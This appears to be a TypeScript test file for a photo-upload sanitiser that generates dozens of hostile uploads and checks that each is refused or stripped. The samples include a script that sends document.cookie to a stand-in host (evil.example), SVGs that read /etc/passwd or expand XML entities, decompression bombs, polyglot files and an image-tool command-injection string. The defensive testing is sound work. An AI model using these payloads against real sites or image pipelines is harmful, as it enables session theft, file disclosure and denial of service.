/**
 * A corpus of hostile files uploaded instead of a photo. Each is refused with a reason or made
 * harmless; none ends the process, takes long or fills the memory. The files are made here, so that
 * none of them is in the repository.
 */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { crc32, deflateSync, gzipSync } from 'node:zlib'

import sharp from 'sharp'

import { preparePhoto, type PhotoRefusal } from './prepare-photo.ts'

type Made = { name: string; bytes: Buffer; ends: PhotoRefusal | 'harmless' }

const [width, height] = [800, 600]
const plain = () =>
  sharp({ create: { width, height, channels: 3, background: { r: 200, g: 120, b: 90 } } })
const jpeg = await plain().jpeg().toBuffer()
const png = await plain().png().toBuffer()
const webp = await plain().webp().toBuffer()
const script = '<script>fetch("//evil.example/"+document.cookie)</script>'
const svg = (inside: string) =>
  Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="800" height="600">${inside}</svg>`)

/** A PNG of a header and at most one extra chunk. */
function pngOf(
  size: [number, number],
  options: { colour?: number; extra?: Buffer; rows?: Buffer },
) {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(size[0], 0)
  header.writeUInt32BE(size[1], 4)
  header.set([8, options.colour ?? 0, 0, 0, 0], 8)
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', header),
    options.extra ?? Buffer.alloc(0),
    chunk('IDAT', deflateSync(options.rows ?? Buffer.alloc(64))),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

function chunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const sum = Buffer.alloc(4)
  sum.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, sum])
}

/** Inserts bytes at a position of a file. */
const insert = (file: Buffer, at: number, more: Buffer) =>
  Buffer.concat([file.subarray(0, at), more, file.subarray(at)])

/** Inserts a JPEG segment after the first marker. */
function withSegment(marker: number, text: string): Buffer {
  const data = Buffer.from(text, 'latin1')
  const head = Buffer.from([0xff, marker, (data.length + 2) >> 8, (data.length + 2) & 255])
  return insert(jpeg, 2, Buffer.concat([head, data]))
}

/** Scanlines of a real grey picture of the usual size. */
const rows = Buffer.alloc((width + 1) * height, 0)
/** 50 million zeros, compressed to 50 kB. */
const bomb = deflateSync(Buffer.alloc(50_000_000))

const corpus: Made[] = [
  { name: 'nothing at all', bytes: Buffer.alloc(0), ends: 'empty' },
  { name: 'one byte', bytes: Buffer.from([0xff]), ends: 'kind' },
  { name: 'plain text', bytes: Buffer.from('a picture, honestly'), ends: 'kind' },
  { name: 'a page named photo.png', bytes: Buffer.from(`<html>${script}</html>`), ends: 'kind' },
  { name: 'an SVG with a script', bytes: svg(script), ends: 'kind' },
  { name: 'an SVG that loads', bytes: svg('<image href="file:///etc/passwd"/>'), ends: 'kind' },
  {
    name: 'an SVG of entities that grow',
    bytes: Buffer.from(
      `<?xml version="1.0"?><!DOCTYPE s [<!ENTITY a "${'x'.repeat(99)}"><!ENTITY b "${'&a;'.repeat(99)}">]><svg>&b;</svg>`,
    ),
    ends: 'kind',
  },
  { name: 'a packed SVG', bytes: gzipSync(svg(script)), ends: 'kind' },
  { name: 'an SVG behind a mark', bytes: Buffer.from(`\ufeff  ${svg(script)}`), ends: 'kind' },
  { name: 'a PDF', bytes: Buffer.from('%PDF-1.7\n1 0 obj<</JS(app.alert(1))>>'), ends: 'kind' },
  { name: 'a GIF that is a script', bytes: Buffer.from('GIF89a/*'.padEnd(90, '*')), ends: 'kind' },
  { name: 'a real GIF', bytes: await plain().gif().toBuffer(), ends: 'kind' },
  { name: 'an AVIF', bytes: await plain().avif({ effort: 0 }).toBuffer(), ends: 'kind' },
  { name: 'a TIFF', bytes: await plain().tiff().toBuffer(), ends: 'kind' },
  { name: 'a ZIP', bytes: Buffer.from('PK\x03\x04evil.js'), ends: 'kind' },
  { name: 'a program', bytes: Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), ends: 'kind' },
  {
    name: 'a drawing language',
    bytes: Buffer.from('push graphic-context\nurl(|id)'),
    ends: 'kind',
  },
  { name: 'a BMP header', bytes: Buffer.from('BM\x36\x00\x00\x00'), ends: 'kind' },
  { name: 'an HEIC header', bytes: Buffer.from('\0\0\0\x18ftypheic', 'latin1'), ends: 'kind' },
  { name: 'only the first bytes of a JPEG', bytes: jpeg.subarray(0, 3), ends: 'damaged' },
  { name: 'half a JPEG', bytes: jpeg.subarray(0, jpeg.length / 2), ends: 'damaged' },
  { name: 'half a PNG', bytes: png.subarray(0, png.length / 2), ends: 'damaged' },
  { name: 'half a WebP', bytes: webp.subarray(0, webp.length / 2), ends: 'damaged' },
  {
    name: 'a PNG signature before a page',
    bytes: insert(png, 8, Buffer.from(script)),
    ends: 'damaged',
  },
  {
    name: 'a WebP header before text',
    bytes: Buffer.from(`RIFF\x10\0\0\0WEBP${script}`),
    ends: 'damaged',
  },
  { name: 'a PNG whose sums are wrong', bytes: Buffer.from(png).fill(7, 40, 48), ends: 'damaged' },
  { name: 'a PNG of a million by a million', bytes: pngOf([1e6, 1e6], {}), ends: 'pixels' },
  { name: 'a PNG of 30,000 by 30,000', bytes: pngOf([3e4, 3e4], { rows: bomb }), ends: 'pixels' },
  { name: 'a PNG without size', bytes: pngOf([0, 0], {}), ends: 'damaged' },
  { name: 'a PNG that ends too early', bytes: pngOf([width, height], {}), ends: 'damaged' },
  {
    name: 'a JPEG whose header lies',
    bytes: Buffer.concat([
      jpeg.subarray(0, jpeg.indexOf(Buffer.from([0xff, 0xc0])) + 5),
      Buffer.from([0x80, 0, 0x80, 0]),
      jpeg.subarray(jpeg.indexOf(Buffer.from([0xff, 0xc0])) + 9),
    ]),
    ends: 'pixels',
  },
  {
    name: 'a strip',
    bytes: await plain().resize(4000, 700, { fit: 'fill' }).png().toBuffer(),
    ends: 'shape',
  },
  { name: 'a stamp', bytes: await plain().resize(40, 40).png().toBuffer(), ends: 'small' },
  {
    name: 'a WebP that moves',
    bytes: await sharp(
      // Each frame has another grey, or the encoder would merge them.
      Buffer.concat(Array.from({ length: 20 }, (_, frame) => Buffer.alloc(rows.length, frame * 9))),
      { raw: { width: width + 1, height: height * 20, pageHeight: height, channels: 1 } },
    )
      .webp({ loop: 0, delay: Array.from({ length: 20 }, () => 50) })
      .toBuffer(),
    ends: 'moving',
  },
  // Valid pictures that carry something else.
  {
    name: 'a JPEG that is a page after its end',
    bytes: Buffer.concat([jpeg, Buffer.from(script)]),
    ends: 'harmless',
  },
  {
    name: 'a JPEG with a ZIP behind it',
    bytes: Buffer.concat([jpeg, Buffer.from('PK\x03\x04evil.js')]),
    ends: 'harmless',
  },
  { name: 'a JPEG with a page as its comment', bytes: withSegment(0xfe, script), ends: 'harmless' },
  {
    name: 'a JPEG with XMP',
    bytes: withSegment(0xe1, `http://ns.adobe.com/xap/1.0/\0${script}`),
    ends: 'harmless',
  },
  {
    name: 'a JPEG that says where it was taken',
    bytes: await plain()
      .withExif({
        IFD0: { Artist: script },
        IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '3/1 8/1 0/1' },
      })
      .jpeg()
      .toBuffer(),
    ends: 'harmless',
  },
  {
    name: 'a PNG with a bomb in its words',
    bytes: pngOf([width, height], {
      rows,
      extra: chunk('zTXt', Buffer.concat([Buffer.from('a\0\0'), bomb])),
    }),
    ends: 'harmless',
  },
  {
    name: 'a PNG with a bomb as its colours',
    bytes: pngOf([width, height], {
      rows,
      extra: chunk('iCCP', Buffer.concat([Buffer.from('a\0\0'), bomb])),
    }),
    ends: 'harmless',
  },
  {
    name: 'a PNG with a page in its words',
    bytes: pngOf([width, height], { rows, extra: chunk('tEXt', Buffer.from(`c\0${script}`)) }),
    ends: 'harmless',
  },
  {
    name: 'a PNG with frames',
    bytes: pngOf([width, height], {
      rows,
      extra: chunk('acTL', Buffer.from([0, 0, 0, 9, 0, 0, 0, 0])),
    }),
    ends: 'harmless',
  },
]

test(`each of ${corpus.length} hostile files is refused or made harmless within time and memory limits`, async (t) => {
  assert.ok(corpus.length >= 30)
  const before = process.memoryUsage().rss
  for (const { name, bytes, ends } of corpus)
    await t.test(name, async () => {
      const startedAt = performance.now()
      const made = await preparePhoto(bytes)
      assert.equal(made.ok ? 'harmless' : made.reason, ends)
      assert.ok(performance.now() - startedAt < 10_000, 'it took too long')
      if (!made.ok) return
      assert.deepEqual(
        made.files.map((file) => file.name),
        ['photo-320.avif', 'photo-320.webp', 'photo-640.avif', 'photo-640.webp'],
      )
      for (const file of made.files) {
        const seen = await sharp(file.bytes).metadata()
        assert.match(String(seen.format), /^(heif|webp)$/)
        for (const carried of ['exif', 'xmp', 'icc', 'iptc', 'comments'] as const)
          assert.equal(seen[carried], undefined, carried)
        const text = file.bytes.toString('latin1')
        assert.doesNotMatch(text, /<script|evil/)
      }
    })
  const grown = (process.memoryUsage().rss - before) / 1024 / 1024
  assert.ok(grown < 150, `memory grew by ${Math.round(grown)} MB`)
})

test('a photo is rotated by its EXIF orientation', async () => {
  const turned = await plain().withMetadata({ orientation: 6 }).jpeg().toBuffer()
  const made = await preparePhoto(turned)
  assert.ok(!made.ok && made.reason === 'small', 'upright it is 600 wide')
  const large = await sharp(turned, { autoOrient: false })
    .resize(1000, 800)
    .withMetadata({ orientation: 6 })
    .jpeg()
    .toBuffer()
  const upright = await preparePhoto(large)
  assert.ok(upright.ok)
  assert.ok(upright.ratio[1] > upright.ratio[0])
})

test('many simultaneous photos are decoded in turn', async () => {
  const made = await Promise.all(Array.from({ length: 6 }, () => preparePhoto(jpeg)))
  assert.ok(made.every(({ ok }) => ok))
})
